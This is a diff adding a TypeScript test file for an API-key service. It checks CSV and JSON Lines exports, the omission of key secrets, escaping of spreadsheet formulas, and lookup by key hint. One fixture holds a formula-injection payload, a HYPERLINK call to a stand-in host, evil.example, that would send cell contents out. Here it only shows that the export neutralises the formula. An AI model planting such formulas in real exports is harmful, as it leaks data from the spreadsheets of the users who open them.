@@ -1,0 +1,65 @@
+import assert from 'node:assert/strict';
+import test from 'node:test';
+import { parse } from 'csv-parse/sync';
+import fc from 'fast-check';
+import { csvLine } from '../../src/actions/api-keys/csv.ts';
+import { putKeys } from '../support/key-list.ts';
+import { startKeyward } from '../support/keyward.ts';
+
+const keyward = await startKeyward();
+const as = await keyward.asPerson('ADMIN');
+
+test('a list is written as CSV and as JSON Lines, narrowed as the list is, and holds nothing that proves a key', async () => {
+  const key = await keyward.addKey({ role: 'READONLY', appname: 'secretive' });
+  const evil = '=HYPERLINK("http://evil.example?x="&A1,"click")';
+  await putKeys(keyward, 'acme1', [
+    { appname: 'evil', description: evil, tags: ['out'] },
+    { appname: 'plain', description: 'one, "two"', tags: ['out'], owner: 'gone@example.com' },
+  ]);
+  const csv = await keyward.ok('GET', '/api/v1/key-export?format=csv&tag=out', { as });
+  assert.equal(csv.headers['content-type'], 'text/csv; charset=utf-8');
+  assert.match(String(csv.headers['content-disposition']), /^attachment; filename="api-keys-[0-9-]+\.csv"$/);
+  const rows = parse(csv.text, { columns: true }) as Record<string, string>[];
+  assert.deepEqual(
+    rows.map(({ appname, description, owner }) => [appname, description, owner]),
+    [
+      ['evil', `'${evil}`, ''],
+      ['plain', 'one, "two"', 'gone@example.com'],
+    ],
+  );
+  const all = await keyward.ok('GET', '/api/v1/key-export?format=jsonl', { as });
+  assert.equal(all.headers['content-type'], 'application/x-ndjson; charset=utf-8');
+  const records = all.text
+    .trimEnd()
+    .split('\n')
+    .map((line) => JSON.parse(line));
+  assert.deepEqual(
+    records.map(({ appname }) => appname),
+    ['secretive', 'evil', 'plain'],
+  );
+  assert.ok(!all.text.includes(key.appkey) && !csv.text.includes(key.appkey));
+  assert.equal((await keyward.request('GET', '/api/v1/key-export?format=xls', { as })).body.code, 'invalid_request');
+});
+
+test('whatever a cell holds, it is read back as it was and never begins a formula', () => {
+  const text = fc.array(fc.constantFrom(...'=+-@\t\r\n",;\'ab 1ä😀')).map((letters) => letters.join(''));
+  fc.assert(
+    fc.property(fc.array(text, { minLength: 1, maxLength: 6 }), (cells) => {
+      const line = csvLine(cells);
+      const [row = []] = parse(line, { skip_empty_lines: false, relax_column_count: true }) as string[][];
+      for (const [at, cell] of cells.entries()) {
+        const read = row[at] ?? '';
+        assert.doesNotMatch(read, /^[=+\-@\t\r]/);
+        assert.equal(read, /^[=+\-@\t\r]/.test(cell) ? `'${cell}` : cell);
+      }
+    }),
+  );
+});
+
+test('the last four characters of a key find it by its hint', async () => {
+  const { data } = (
+    await keyward.ok('POST', '/api/v1/api-keys', { body: { appname: 'found-by-end', roles: ['READONLY'] }, as })
+  ).body;
+  const { body } = await keyward.ok('GET', `/api/v1/api-keys?limit=10&q=${data.appkey.slice(-4)}`, { as });
+  assert.ok(body.data.some(({ appname }: { appname: string }) => appname === 'found-by-end'));
+});
